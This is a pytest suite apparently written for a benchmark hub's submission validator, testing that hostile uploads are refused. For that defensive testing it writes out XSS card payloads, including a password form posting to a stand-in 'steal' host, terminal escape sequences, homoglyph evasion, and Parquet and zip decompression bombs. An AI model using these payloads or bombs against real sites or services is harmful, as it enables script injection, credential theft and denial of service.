"""Hostile and careless submissions from issue 10 (findings 2, 4-8, 11, 15): each is refused with a one-line
reason, without a traceback, without unbounded memory, and without writing anything it should not."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tarfile
import textwrap
import unicodedata
import warnings
import zipfile
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from buildbench.errors import InputError
from buildbench.hub.registry import Registry
from buildbench.hub.unpack import extract_archive
from buildbench.hub.validate import format_report, validate_submission, validate_task
from buildbench.tasks import write_retrieval_task
from tests.hub.submission_tasks import (
    CORPUS_SHARD,
    assert_rejected,
    edit_header,
    edit_record,
    files_under,
    task_info,
    task_tables,
    write_task,
)

REPO_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def clean_task(tmp_path: Path) -> Path:
    return write_task(tmp_path / "submission" / "village")


def one_line(text: str) -> bool:
    return "\n" not in text and "Traceback" not in text


def invisible(text: str) -> list[str]:
    """Control, format (bidi, zero-width) and separator characters a terminal would act on or hide."""
    return [f"U+{ord(c):04X}" for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]


# -- finding 2: links inside a submission folder


def test_finding_02_hardlink_to_an_outside_file_is_refused(clean_task: Path, tmp_path: Path):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    os.link(secret, clean_task / "notes.txt")
    for report in (validate_task(clean_task), validate_submission(clean_task)):
        assert_rejected(report, "paths", "notes.txt has 2 hard links: a hard link may be a file outside the folder")
        assert all(c.skipped for c in report.checks[3:])


# -- finding 4: a small Parquet file that decodes into gigabytes


def _dictionary_bomb(path: Path, rows: int, value_chars: int) -> None:
    """One dictionary entry repeated ``rows`` times in every column, written without the Arrow schema, so a
    reader decodes it into plain strings (rows * value_chars bytes) though the file is tiny."""
    value = pa.array(["x" * value_chars])

    indices = pa.array(np.zeros(rows, np.int32))

    def column(prefix: str):
        return pa.DictionaryArray.from_arrays(indices, pa.array([prefix + value[0].as_py()]))

    table = pa.table({"id": column("d"), "title": column("t"), "text": column("")})
    pq.write_table(table, path, store_schema=False, write_statistics=False, compression="zstd",
                   row_group_size=1_000_000)


_CHILD = textwrap.dedent("""
    import json, os, sys, threading, time
    from pathlib import Path

    def watchdog():  # a safety net for the machine: a run that balloons is stopped at 1.5 GB
        while True:
            with open("/proc/self/statm") as fh:
                rss = int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
            if rss > 1.5 * 1024**3:
                print(json.dumps({"killed_at_rss": rss}), flush=True)
                os._exit(3)
            time.sleep(0.05)

    threading.Thread(target=watchdog, daemon=True).start()
    from buildbench.hub.validate import validate_task
    start = time.monotonic()
    report = validate_task(Path(sys.argv[1]))
    check = report.check("declared_sizes")
    # VmHWM is this process's own peak: ru_maxrss would carry over the forking parent's peak across exec.
    with open("/proc/self/status") as fh:
        hwm = next(int(line.split()[1]) * 1024 for line in fh if line.startswith("VmHWM:"))
    print(json.dumps({"passed": check.passed, "reason": check.reason, "seconds": time.monotonic() - start,
                      "maxrss": hwm}))
""")


def _validate_in_child(task: Path) -> dict:
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "HF_DATASETS_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}
    proc = subprocess.run([sys.executable, "-c", _CHILD, str(task)], capture_output=True, text=True, cwd=REPO_ROOT,
                          env=env, timeout=600)
    lines = proc.stdout.strip().splitlines()
    assert proc.returncode == 0 and lines, f"exit {proc.returncode}: {proc.stdout[-2000:]}{proc.stderr[-2000:]}"
    return json.loads(lines[-1])


def test_finding_04_dictionary_encoded_parquet_bomb_is_refused_from_its_metadata(clean_task: Path):
    shard = clean_task / CORPUS_SHARD
    _dictionary_bomb(shard, rows=4_000_000, value_chars=2_000)
    assert shard.stat().st_size < 300_000  # a few KB on disk, about 24 GB once decoded
    result = _validate_in_child(clean_task)
    assert not result["passed"]
    assert result["reason"] == (
        f"{CORPUS_SHARD} holds 4000000 rows (Parquet metadata); a submission may hold at most 2000000 rows in all"
    )
    assert result["maxrss"] < 1024**3, result


def test_finding_04_decoded_size_is_measured_in_bounded_batches(clean_task: Path):
    # Under the row cap, but every row decodes to 1 KB: 1.5 GB of text from a file of a few hundred KB.
    shard = clean_task / CORPUS_SHARD
    _dictionary_bomb(shard, rows=1_500_000, value_chars=1_000)
    result = _validate_in_child(clean_task)
    assert not result["passed"]
    assert result["reason"].startswith(f"{CORPUS_SHARD} decodes to more than ")
    assert result["reason"].endswith(" on disk), above the 1.0 GB limit for decoded data")
    assert one_line(result["reason"])
    assert result["maxrss"] < 1024**3, result


# -- finding 5: look-alike letters


CYRILLIC = str.maketrans({"o": "\u043e", "a": "\u0430", "e": "\u0435", "p": "\u0440", "c": "\u0441"})


def test_finding_05_lookalike_letters_do_not_dodge_the_overlap_check(tmp_path: Path):
    registry = Registry(tmp_path / "registry")
    registry.add_task(write_task(tmp_path / "registered"), repo="org/village", version="v1.0.0")
    registry.save()
    registry = Registry.load(tmp_path / "registry")

    corpus, queries, qrels = task_tables()

    def disguise(table: pa.Table) -> pa.Table:
        texts = [t.translate(CYRILLIC) for t in table.column("text").to_pylist()]
        return table.set_column(table.schema.get_field_index("text"), "text", pa.array(texts))

    copy = write_retrieval_task(tmp_path / "copy", disguise(corpus), disguise(queries), qrels,
                                task_info("HarbourStoriesRetrieval"))
    assert "o" not in pq.read_table(copy / "queries" / "test-00000-of-00001.parquet").column("text")[0].as_py()
    report = validate_task(copy, registry)
    check = report.check("overlap")
    assert not check.passed, format_report(report)
    assert check.reason.startswith(
        "30 of 30 queries (100.0%) are near-identical (MinHash Jaccard >= 0.8) to queries of registered task "
        "'VillageStoriesRetrieval' v1.0.0 (> 5%); "
    )
    assert "documents (" in check.reason


def test_finding_05_fingerprints_stored_before_folding_are_compared_unfolded(tmp_path: Path):
    from buildbench.hub.fingerprints import compute_fingerprints

    registered = write_task(tmp_path / "registered")
    registry = Registry(tmp_path / "registry")
    registry.add_task(registered, repo="org/village", version="v1.0.0")
    registry.save()
    # A registry written by an earlier buildbench: signatures of the texts as they are, no folding marker.
    path = tmp_path / "registry" / registry.get("VillageStoriesRetrieval").fingerprints
    legacy = compute_fingerprints(registered, folding="none").to_table("VillageStoriesRetrieval", "v1.0.0")
    pq.write_table(legacy.replace_schema_metadata(None), path)
    registry = Registry.load(tmp_path / "registry")
    assert registry.fingerprints("VillageStoriesRetrieval").folding == "none"

    corpus, queries, qrels = task_tables()
    copy = write_retrieval_task(tmp_path / "copy", corpus, queries, qrels, task_info("HarbourStoriesRetrieval"))
    check = validate_task(copy, registry).check("overlap")
    assert not check.passed and check.reason.startswith("30 of 30 queries (100.0%) are near-identical")


# -- finding 6: HTML in the card


CARD_ATTACKS = [
    ('<img alt=">" src=x onerror="alert(1)">', "<img onerror>"),
    ('<a href="java&#x09;script:alert(1)">docs</a>', "a javascript: link in <a href>"),
    ('<a href="jav&#x0A;ascript:alert(1)">docs</a>', "a javascript: link in <a href>"),
    ("[docs](java&#x09;script:alert(1))", "a javascript: link in <a href>"),
    ('<meta http-equiv="refresh" content="0;url=https://example.invalid/">', "<meta>"),
    ('<object data="https://example.invalid/x.swf"></object>', "<object>"),
    ('<embed src="https://example.invalid/x.swf">', "<embed>"),
    ('<form action="https://example.invalid/steal"><input name="password"></form>', "<form>"),
    ("<style>@import url(https://example.invalid/x.css);</style>", "<style>"),
    ('<base href="https://example.invalid/">', "<base>"),
    ('<div style="width: expression(alert(1))">text</div>', "<div style>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">docs</a>', "a data: link in <a href>"),
    ("[docs](data:text/html;base64,PHNjcmlwdD4=)", "a data: link in <a href>"),
    ('<a href="vbscript:msgbox(1)">docs</a>', "a vbscript: link in <a href>"),
    ("<svg><script>alert(1)</script></svg>", "<script>"),
]


@pytest.mark.parametrize("snippet, shown", CARD_ATTACKS, ids=[s for s, _ in CARD_ATTACKS])
def test_finding_06_card_html_bypasses_are_refused(clean_task: Path, snippet: str, shown: str):
    card = clean_task / "README.md"
    card.write_text(card.read_text(encoding="utf-8") + "\nSee the notes.\n\n" + snippet + "\n", encoding="utf-8")
    report = validate_task(clean_task)
    check = report.check("card_html")
    assert not check.passed and not check.skipped, format_report(report)
    assert check.reason.startswith("README.md ") and shown in check.reason, check.reason
    assert one_line(check.reason)


def test_finding_06_ordinary_card_html_and_markdown_pass(clean_task: Path):
    card = clean_task / "README.md"
    card.write_text(card.read_text(encoding="utf-8") + textwrap.dedent("""
        <!-- a comment the card template left -->
        <p align="center"><img src="https://example.org/logo.png" alt="logo" width="200"></p>

        <details><summary>Details</summary>

        Read <a href="https://example.org/paper" title="paper">the paper</a> or [the code](https://example.org/code),
        write to <mailto:team@example.org> or <team@example.org> or [us](mailto:team@example.org), see
        [below](#citation), [the data](corpus/) and <https://example.org>.

        </details>

        | a < b | x |
        |---:|---|
        | `<b>` | `List<String>` |

        ```html
        <script>shown as code, never run</script>
        ```
        """), encoding="utf-8")
    check = validate_task(clean_task).check("card_html")
    assert check.passed, check.reason


def test_finding_06_license_holding_html_is_escaped_in_the_registry_card(tmp_path: Path):
    license = '<img src=x onerror="alert(document.cookie)"> | [click](javascript:alert(1))'
    task = write_task(tmp_path / "task", license=license)
    registry = Registry(tmp_path / "registry")
    registry.add_task(task, repo="org/village", version="v1.0.0")
    card = registry.render_card()
    row = next(line for line in card.splitlines() if "VillageStoriesRetrieval" in line)
    assert "<img" not in card and r"&lt;img src=x onerror=&quot;alert\(document.cookie\)&quot;&gt;" in row
    assert "](javascript" not in row and r"\[click\]\(javascript:alert\(1\)\)" in row
    assert row.count(" | ") == 7  # the license's own "|" does not open a new cell


# -- finding 7: terminal escape codes


def test_finding_07_escape_codes_in_a_task_name_are_not_echoed(clean_task: Path, capsys):
    from buildbench.cli import main

    name = "Village\x1b[2J\x1b[1;1H\x1b[32mPASS\x1b]0;owned\x07\u202eStories\x9b31m"
    edit_record(clean_task, lambda r: r.update(name=name))
    code = main(["validate", str(clean_task)])
    out = capsys.readouterr()
    assert code != 0
    assert invisible(out.out) == [] and invisible(out.err) == []
    report = validate_task(clean_task)
    assert report.check("metadata").reason == (
        r"task.json: the task name 'Village\x1b[2J\x1b[1;1H\x1b[32mPASS\x1b]0;owned\x07\u202eStories\x9b31m' "
        "holds U+001B, a control character"
    )
    assert invisible(format_report(report)) == []


# -- finding 8: tracebacks instead of one-line errors


def test_finding_08_task_json_nested_thousands_deep(clean_task: Path):
    (clean_task / "task.json").write_text('{"name": "X", "x": ' + "[" * 5000 + "]" * 5000 + "}", encoding="utf-8")
    for report in (validate_task(clean_task), validate_submission(clean_task)):
        assert_rejected(report, "metadata", "task.json nests deeper than 64 levels")


@pytest.mark.parametrize("nesting", ["flow", "block"])
def test_finding_08_card_yaml_nested_thousands_deep(clean_task: Path, nesting: str):
    if nesting == "flow":
        deep, line = "x: " + "[" * 3000 + "]" * 3000 + "\n", 2
    else:  # as deep as an indented mapping gets within the 1 MB card cap; level 65 starts on card line 66
        deep, line = "x:\n" + "".join(" " * (i + 1) + "a:\n" for i in range(1300)) + " " * 1301 + "1\n", 66
    card = clean_task / "README.md"
    card.write_text(card.read_text(encoding="utf-8").replace("---\n", "---\n" + deep, 1), encoding="utf-8")
    report = validate_task(clean_task)
    assert_rejected(report, "card_yaml", f"README.md YAML header nests deeper than 64 levels (line {line})")
    assert report.check("card_paths").skipped


def _zip(path: Path, members: list[tuple[str, bytes]]) -> Path:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as zf:
        warnings.simplefilter("ignore")  # zipfile warns about a duplicate name, and writes it all the same
        for name, data in members:
            zf.writestr(name, data)
    return path


def _members(task: Path) -> list[tuple[str, bytes]]:
    return [(p.relative_to(task).as_posix(), p.read_bytes()) for p in sorted(task.rglob("*")) if p.is_file()]


def test_finding_08_archive_with_duplicate_member_names(clean_task: Path, tmp_path: Path):
    members = _members(clean_task)
    zpath = _zip(tmp_path / "dup.zip", members + [("task.json", b'{"name": "Other"}')])
    tpath = tmp_path / "dup.tar"
    with tarfile.open(tpath, "w") as tf:
        for name, data in members + [("task.json", b'{"name": "Other"}')]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    for archive in (zpath, tpath):
        report = validate_submission(archive)
        assert_rejected(report, "paths", "refused submission: the archive holds task.json twice")
        with pytest.raises(InputError, match="^refused submission: the archive holds task.json twice$"):
            extract_archive(archive, tmp_path / f"target-{archive.suffix[1:]}")
        assert files_under(tmp_path / f"target-{archive.suffix[1:]}") == set()


def test_finding_08_missing_paths(tmp_path: Path):
    for missing in (tmp_path / "no-such-task", tmp_path / "no-such.zip"):
        report = validate_submission(missing)
        assert_rejected(report, "paths", f"{missing} does not exist")
        assert all(c.skipped for c in report.checks[1:])
    with pytest.raises(InputError, match=f"^{tmp_path / 'gone.tar'} does not exist$"):
        extract_archive(tmp_path / "gone.tar", tmp_path / "target")


def test_finding_08_corrupt_archives_are_refused_in_one_line_and_leave_nothing(clean_task: Path, tmp_path: Path):
    members = _members(clean_task)
    good = _zip(tmp_path / "good.zip", members)
    # The last member's data is damaged: every other member is written before its CRC fails.
    data = bytearray(good.read_bytes())
    info = zipfile.ZipFile(good).getinfo(members[-1][0])
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start:start + 16] = bytes(16)
    damaged = tmp_path / "damaged.zip"
    damaged.write_bytes(bytes(data))
    truncated = tmp_path / "truncated.tar.gz"
    with tarfile.open(truncated, "w:gz") as tf:
        for name, payload in members:
            member = tarfile.TarInfo(name)
            member.size = len(payload)
            tf.addfile(member, io.BytesIO(payload))
    truncated.write_bytes(truncated.read_bytes()[: truncated.stat().st_size // 2])
    not_an_archive = tmp_path / "notes.txt"
    not_an_archive.write_text("hello")
    for archive, reason in ((damaged, f"{damaged} cannot be extracted (BadZipFile: Bad CRC-32 for file"),
                            (truncated, f"{truncated} cannot be extracted ("),
                            (not_an_archive, f"{not_an_archive} is neither a zip nor a tar archive")):
        target = tmp_path / f"target-{archive.name}"
        with pytest.raises(InputError) as err:
            extract_archive(archive, target)
        assert str(err.value).startswith(reason) and one_line(str(err.value))
        assert files_under(target) == set()
        assert validate_submission(archive).check("paths").reason == str(err.value)


def test_finding_08_card_sizes_that_do_not_match_the_data(clean_task: Path):
    def lie(header):
        header["dataset_info"][0]["splits"][0]["num_examples"] = 15
        header["dataset_info"][1]["splits"] = {"test": 5}  # not even the shape datasets writes
        header["dataset_info"].append("not a mapping")

    edit_header(clean_task, lie)
    report = validate_task(clean_task)
    assert_rejected(report, "counts", "README.md dataset_info config 'corpus' split 'test' declares 15 rows, "
                                      "the data has 150; README.md dataset_info config 'queries' splits is a dict, "
                                      "not a list of splits; README.md dataset_info entry 4 is a str, not a mapping")
    assert report.check("baselines").passed  # the data itself is still checked


@pytest.mark.parametrize("char, label", [
    ("\u202e", "U+202E (RIGHT-TO-LEFT OVERRIDE), a bidirectional control character"),
    ("\x85", "U+0085, a control character"),
    ("\u200b", "U+200B (ZERO WIDTH SPACE), a zero-width character"),
])
def test_finding_08_names_with_invisible_characters_are_refused(clean_task: Path, tmp_path: Path, char: str,
                                                               label: str):
    edit_record(clean_task, lambda r: r.update(name=f"Village{char}Stories"))
    assert_rejected(validate_task(clean_task), "metadata",
                    f"task.json: the task name {f'Village{char}Stories'!r} holds {label}")

    other = write_task(tmp_path / f"files-{ord(char)}")
    (other / f"notes{char}.txt").write_text("hello")
    assert_rejected(validate_task(other), "paths", f"the name {f'notes{char}.txt'!r} holds {label}")
    zpath = _zip(tmp_path / f"named-{ord(char)}.zip", _members(other))
    with pytest.raises(InputError, match="^refused submission file: the name .* holds U\\+"):
        extract_archive(zpath, tmp_path / f"z-{ord(char)}")


def test_finding_08_names_the_registry_refuses_are_refused_by_validation(clean_task: Path):
    edit_record(clean_task, lambda r: r.update(name="Village Stories/Retrieval"))
    assert_rejected(validate_task(clean_task), "metadata",
                    "task.json: the task name 'Village Stories/Retrieval' must start with a letter and hold only "
                    "letters, digits, '_', '-', '.' (at most 128 characters)")


# -- finding 11: declared counts against the data


def test_finding_11_card_and_task_json_counts_must_match_the_data(tmp_path: Path):
    task = write_task(tmp_path / "big", n_docs=324)

    def shrink(header):
        header["dataset_info"][0]["splits"][0]["num_examples"] = 24
        header["size_categories"] = ["1K<n<10K"]

    edit_header(task, shrink)
    edit_record(task, lambda r: r["counts"].update(corpus=24))
    report = validate_task(task)
    assert_rejected(report, "counts",
                    "README.md dataset_info config 'corpus' split 'test' declares 24 rows, the data has 324; "
                    "README.md size_categories is 1K<n<10K, the corpus has 324 rows (n<1K); "
                    "task.json counts.corpus is 24, the data has 324")
    assert report.counts == {"corpus": 324, "queries": 30, "qrels": 30}


def test_finding_11_verified_counts_of_a_clean_task(clean_task: Path):
    report = validate_task(clean_task)
    assert report.check("counts").passed
    assert report.check("counts").reason == "the card and task.json declare the rows the data has: 150 documents, " \
                                            "30 queries, 30 qrels"
    assert report.counts == {"corpus": 150, "queries": 30, "qrels": 30}
    assert report.to_dict()["counts"] == report.counts


def test_finding_11_card_config_reading_other_files_than_validated(clean_task: Path):
    (clean_task / "extra").mkdir()
    pq.write_table(pq.read_table(clean_task / CORPUS_SHARD).slice(0, 10), clean_task / "extra" / "test-0.parquet")

    def elsewhere(header):
        header["configs"][0]["data_files"][0]["path"] = "extra/test-*.parquet"

    edit_header(clean_task, elsewhere)
    check = validate_task(clean_task).check("counts")
    assert not check.passed
    assert check.reason.startswith("README.md config 'corpus' reads extra/test-0.parquet, not the validated "
                                   "corpus/test-00000-of-00001.parquet")


# -- finding 15: zip bombs


def test_finding_15_zip_bomb_is_refused_before_anything_is_written(tmp_path: Path):
    bomb = tmp_path / "bomb.zip"
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for i in range(6):
            with zf.open(f"corpus/part{i}.jsonl", "w") as fh:
                for _ in range(190):
                    fh.write(chunk)
    assert bomb.stat().st_size < 10 * 1024**2  # about 1.1 GB once extracted
    target = tmp_path / "target"
    with pytest.raises(InputError) as err:
        extract_archive(bomb, target)
    assert str(err.value).startswith("refused submission file: corpus/part0.jsonl declares 190.0 MB compressed "
                                     "into ")
    assert str(err.value).endswith(", more than 100 times smaller (a zip bomb?)")
    assert files_under(target) == set()
    report = validate_submission(bomb)
    assert report.check("paths").reason == str(err.value)


